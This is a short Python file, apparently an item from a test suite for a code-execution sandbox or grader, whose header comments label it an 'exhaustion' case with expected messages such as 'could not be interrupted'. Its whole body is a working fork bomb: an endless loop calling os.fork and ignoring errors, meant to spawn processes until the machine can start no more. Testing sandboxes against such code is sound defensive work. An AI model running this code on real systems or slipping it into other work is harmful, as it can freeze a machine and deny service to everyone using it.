# Forks until nothing more can be started, on the whole machine if it could.
# family: exhaustion · honest: softmax, count_pairs · earns: 11
# says: could not be interrupted|ran longer than 3 s|processes:

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
